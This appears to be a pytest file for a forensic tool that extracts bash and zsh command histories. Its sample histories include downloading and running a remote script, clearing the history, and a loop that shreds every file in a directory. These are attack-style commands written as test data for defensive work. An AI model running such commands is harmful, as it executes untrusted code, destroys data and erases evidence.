"""unix.shell_history: bash and zsh histories written here."""

from __future__ import annotations

import pytest
from forensic_triage.plugins.shell_history import ShellHistoryExtractor, unmetafy
from helpers import run_extractor, selects

BASH = b"ls -la\n#1680344430\ncurl -O http://203.0.113.5/x.sh\n#1680344440\nbash x.sh\n\nhistory -c\n"

def test_inputs_find_users() -> None:
    assert selects(ShellHistoryExtractor, "home/alice/.bash_history") == (True, "alice")
    assert selects(ShellHistoryExtractor, "Users/bob/.zsh_history") == (True, "bob")
    assert selects(ShellHistoryExtractor, "root/.bash_history")[0]
    assert not selects(ShellHistoryExtractor, "home/alice/.bashrc")[0]


def test_bash_one_full_record_and_count() -> None:
    artifacts, warnings = run_extractor(ShellHistoryExtractor, BASH, "home/alice/.bash_history")
    assert warnings == []
    assert [a.data["command"] for a in artifacts] == ["ls -la", "curl -O http://203.0.113.5/x.sh", "bash x.sh",
                                                      "history -c"]
    art = artifacts[1]
    assert (art.type, art.plugin, art.plugin_version) == ("unix.shell_history", "unix.shell_history", "1.0")
    assert art.data == {"shell": "bash", "user": "alice", "line": 3, "command": "curl -O http://203.0.113.5/x.sh",
                        "executed": "2023-04-01T10:20:30Z", "duration_seconds": None}
    assert art.times == [("Shell command run", "2023-04-01T10:20:30Z")]
    assert artifacts[0].data["executed"] is None and artifacts[0].times == []


def test_zsh_extended_multiline_and_metafied() -> None:
    data = (b": 1680344430:0;cd /tmp\n"
            b": 1680344435:12;for f in *; do\\\n  shred -u $f\\\ndone\n"
            b": 1680344450:0;echo caf\xc3\x83\x89\n")  # 'é' = C3 A9; A9 is written as 0x83, 0xA9^0x20
    artifacts, warnings = run_extractor(ShellHistoryExtractor, data, "root/.zsh_history")
    assert warnings == []
    assert len(artifacts) == 3
    assert artifacts[1].data == {"shell": "zsh", "user": "root", "line": 2,
                                 "command": "for f in *; do\n  shred -u $f\ndone",
                                 "executed": "2023-04-01T10:20:35Z", "duration_seconds": 12}
    assert artifacts[2].data["command"] == "echo café" and artifacts[2].data["line"] == 5


def test_unmetafy() -> None:
    assert unmetafy(b"a\x83\xa3b") == b"a\x83b"
    assert unmetafy(b"plain") == b"plain"


@pytest.mark.parametrize(("data", "name", "words"), [
    (BASH + b"#1680344499\n", ".bash_history", "timestamp line and no command"),
    (b": 1680344435:12;for f in *; do\\\n  shred -u $f\\", ".zsh_history", "multi-line command"),
    (b"ls\n" + b"\0" * 4096 + b"\xff\xfe" * 100, ".bash_history", "binary data"),
])
def test_damaged_histories_are_warnings(data: bytes, name: str, words: str) -> None:
    artifacts, warnings = run_extractor(ShellHistoryExtractor, data, f"home/alice/{name}")
    assert len(warnings) == 1 and words in warnings[0].message
    assert artifacts  # what could be read is kept
